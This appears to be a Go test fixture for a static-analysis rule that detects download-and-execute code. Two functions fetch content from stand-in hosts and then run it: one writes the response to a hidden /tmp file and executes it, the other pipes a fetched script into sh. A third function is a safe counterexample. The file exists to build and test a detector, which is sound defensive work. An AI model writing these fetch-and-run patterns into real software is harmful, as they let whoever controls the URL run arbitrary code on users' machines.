// Fixture for go-download-exec.
// RULEID: http.Get written to /tmp then exec.Command of the path; response body as sh's stdin.
// OK: download saved and hashed, then a different fixed tool run; response body parsed as JSON.
package main

import (
	"encoding/json"
	"io"
	"net/http"
	"os"
	"os/exec"
)

func update() {
	resp, err := http.Get("http://198.51.100.12/u")
	if err != nil {
		return
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	path := "/tmp/.cache-helper"
	os.WriteFile(path, body, 0755)
	// ruleid: go-download-exec
	exec.Command(path).Start()
}

func pipe() {
	resp, _ := http.Get("https://example.net/i.sh")
	cmd := exec.Command("sh")
	// ruleid: go-download-exec
	cmd.Stdin = resp.Body
	cmd.Run()
}

func version() {
	resp, err := http.Get("https://api.example.com/latest")
	if err != nil {
		return
	}
	var v map[string]string
	json.NewDecoder(resp.Body).Decode(&v)
	// ok: go-download-exec
	exec.Command("git", "fetch", "--tags").Run()
}
